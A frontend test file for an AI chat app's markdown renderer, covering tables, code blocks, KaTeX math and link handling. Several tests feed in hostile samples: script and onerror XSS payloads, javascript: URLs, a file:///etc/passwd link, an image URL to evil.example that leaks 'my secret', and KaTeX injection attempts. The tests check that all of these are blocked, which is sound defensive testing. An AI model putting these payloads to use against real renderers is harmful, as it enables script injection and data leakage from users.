import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { MarkdownView } from '@/features/ai-chat/components/markdown-view';
import { loadMarkdownParser } from '@/features/ai-chat/lib/markdown-processor';

describe('reply markdown', () => {
  // Without a worker (jsdom) replies are formatted on the page, once its parser has loaded.
  beforeAll(() => loadMarkdownParser().then(() => undefined));

  it('renders tables, highlighted code and lists', () => {
    const { container } = render(
      <MarkdownView
        text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```\n\n- one\n- ~~two~~'}
      />,
    );
    expect(screen.getByRole('table')).toBeInTheDocument();
    expect(screen.getAllByRole('cell').map((c) => c.textContent)).toEqual(['1', '2']);
    const code = container.querySelector('pre code');
    expect(code).toHaveClass('hljs', 'language-ts');
    expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('const');
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(container.querySelector('del')?.textContent).toBe('two');
  });

  it('opens links in a new tab without a handle on this page', () => {
    render(<MarkdownView text="See [the docs](https://example.com/a) now." />);
    const link = screen.getByRole('link', { name: 'the docs' });
    expect(link).toHaveAttribute('href', 'https://example.com/a');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('never renders raw HTML or script URLs from a reply', () => {
    const { container } = render(
      <MarkdownView
        text={
          'Hi <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2">\n\n' +
          '<iframe src="https://evil.example"></iframe>\n\n[click](javascript:alert(1)) and ' +
          '![x](javascript:alert(2))'
        }
      />,
    );
    expect(container.querySelector('script, iframe, [onerror]')).toBeNull();
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
    const link = screen.getByText('click').closest('a');
    expect(link?.getAttribute('href') ?? '').not.toMatch(/javascript/i);
    expect(container.innerHTML).not.toMatch(/javascript:/i);
  });

  it('never loads an image from another host: a placeholder shows its full address', () => {
    const leak = 'https://evil.example/collect?d=my%20secret';
    const { container } = render(
      <MarkdownView text={`Here: ![chart](${leak}) and ![](//evil.example/p.png)`} />,
    );
    // No element a browser would fetch by itself.
    expect(container.querySelector('img, [src], [srcset]')).toBeNull();
    const [first, second] = screen.getAllByTestId('blocked-image');
    expect(first).toHaveTextContent('Image not loaded: chart');
    expect(first).toHaveTextContent(leak);
    // A protocol-relative address is another host too, shown in full.
    expect(second).toHaveTextContent(`${location.protocol}//evil.example/p.png`);
    // Opening it is the user's choice: a new tab without a referrer or a handle on the app.
    const open = within(first!).getByRole('link', { name: 'Open in a new tab' });
    expect(open).toHaveAttribute('href', leak);
    expect(open).toHaveAttribute('target', '_blank');
    expect(open).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it("shows the app's own images", () => {
    render(<MarkdownView text="![logo](/favicon.svg)" />);
    expect(screen.getByRole('img', { name: 'logo' })).toHaveAttribute('src', '/favicon.svg');
    expect(screen.queryByTestId('blocked-image')).toBeNull();
  });

  it('an image without an address it may open shows only its description', () => {
    const { container } = render(<MarkdownView text="![x](javascript:alert(1))" />);
    const blocked = screen.getByTestId('blocked-image');
    expect(blocked).toHaveTextContent('Image not loaded: x');
    expect(within(blocked).queryByRole('link')).toBeNull();
    expect(container.innerHTML).not.toMatch(/javascript:/i);
  });

  it('links only to web and mail addresses; others stay plain text', () => {
    render(
      <MarkdownView text="[web](https://a.example) [mail](mailto:a@b.example) [file](file:///etc/passwd)" />,
    );
    expect(screen.getByRole('link', { name: 'web' })).toHaveAttribute('href', 'https://a.example');
    expect(screen.getByRole('link', { name: 'mail' })).toHaveAttribute(
      'href',
      'mailto:a@b.example',
    );
    expect(screen.queryByRole('link', { name: 'file' })).toBeNull();
    expect(screen.getByText('file')).toBeInTheDocument();
  });

  it('typesets math in all four delimiters and keeps the TeX source for assistive tech', () => {
    const { container } = render(
      <MarkdownView
        text={'Inline $x^2$ and \\(a+b\\).\n\n$$\n\\frac{1}{2}\n$$\n\n\\[\n\\sqrt{y}\n\\]'}
      />,
    );
    const inline = container.querySelectorAll('p .katex');
    expect(inline).toHaveLength(2);
    const display = container.querySelectorAll('.katex-display');
    expect(display).toHaveLength(2);
    const sources = [...container.querySelectorAll('annotation')].map((a) => a.textContent);
    expect(sources).toEqual(['x^2', 'a+b', '\\frac{1}{2}', '\\sqrt{y}']);
    // Rendered, not shown raw: no dollar or backslash delimiters left in the text.
    expect(container.querySelector('.katex-html')?.textContent).toBe('x2');
    expect(container.textContent).not.toMatch(/\$|\\\(|\\\[/);
  });

  it('keeps a display formula with blank lines in it whole', () => {
    const { container } = render(
      <MarkdownView
        text={'$$\n\\begin{aligned}\na &= 1 \\\\\n\nb &= 2\n\\end{aligned}\n$$\n\nAfter.'}
      />,
    );
    expect(container.querySelectorAll('.katex-display')).toHaveLength(1);
    expect(container.querySelector('.math-error')).toBeNull();
    expect(container.querySelector('p')).toHaveTextContent('After.');
  });

  it('leaves prices as text: "$5 and $10" is not math', () => {
    const { container } = render(
      <MarkdownView text={'It costs $5 and $10, or $5-$10 with $x$ tax.'} />,
    );
    const math = container.querySelectorAll('.katex');
    expect(math).toHaveLength(1);
    expect(math[0]?.querySelector('annotation')).toHaveTextContent('x');
    math[0]!.remove();
    expect(container.textContent).toBe('It costs $5 and $10, or $5-$10 with  tax.');
  });

  it('shows invalid TeX as its source in an error style, and the rest of the reply', () => {
    const { container } = render(<MarkdownView text={'Before $\\frac{1}{$ after **bold**'} />);
    const error = container.querySelector('.math-error');
    expect(error).toHaveTextContent('\\frac{1}{');
    expect(error).toHaveAttribute('title');
    expect(container.querySelector('strong')).toHaveTextContent('bold');
  });

  it('math cannot link, style or class its way out: KaTeX runs untrusted', () => {
    const { container } = render(
      <MarkdownView
        text={
          '$\\href{javascript:alert(1)}{x}$ $\\htmlClass{fixed inset-0}{y}$ ' +
          '\\(\\htmlStyle{background:url(https://evil.example/p.png)}{z}\\) ' +
          '$$\\url{javascript:alert(2)}$$ $\\includegraphics{https://evil.example/i.png}$'
        }
      />,
    );
    expect(container.querySelectorAll('.katex').length).toBeGreaterThan(0);
    expect(container.querySelector('a, img, [src], .fixed')).toBeNull();
    const html = container.innerHTML.replace(/<annotation[^]*?<\/annotation>/g, '');
    expect(html).not.toMatch(/javascript:|url\(|evil\.example/i);
  });

  it('labels a code block with its language and copies its exact code', async () => {
    const code = 'def f(x):\n    return x  # a very long line ' + 'x'.repeat(200);
    render(<MarkdownView text={'```python\n' + code + '\n```\n\n```\nplain text\n```'} />);
    const [labelled, plain] = screen.getAllByRole('figure');
    expect(within(labelled!).getByText('python')).toBeInTheDocument();
    // An unlabelled block has no language label.
    expect(within(plain!).queryByText(/^(python|text|plaintext)$/)).toBeNull();
    expect(within(plain!).getByRole('button', { name: 'Copy code' })).toBeInTheDocument();

    const user = userEvent.setup();
    const writeText = vi.spyOn(navigator.clipboard, 'writeText');
    const copy = within(labelled!).getByRole('button', { name: 'Copy code' });
    // Reachable from the keyboard: Tab reaches the button and Enter copies.
    await user.tab();
    expect(copy).toHaveFocus();
    await user.keyboard('{Enter}');
    expect(writeText).toHaveBeenCalledWith(code);
    await waitFor(() => expect(copy).toHaveTextContent('Copied'));
    expect(await navigator.clipboard.readText()).toBe(code);
  });

  it('a growing text keeps finished blocks and formats the new ones', async () => {
    const { rerender, container } = render(<MarkdownView text="First **bold**" />);
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    rerender(<MarkdownView text={'First **bold**\n\nSecond `code`\n\nThi'} />);
    // Formatting may trail by a frame; the text itself is there at once.
    expect(container.textContent).toContain('Second');
    expect(container.textContent).toContain('Thi');
    await screen.findByText('code', { selector: 'code' });
  });
});
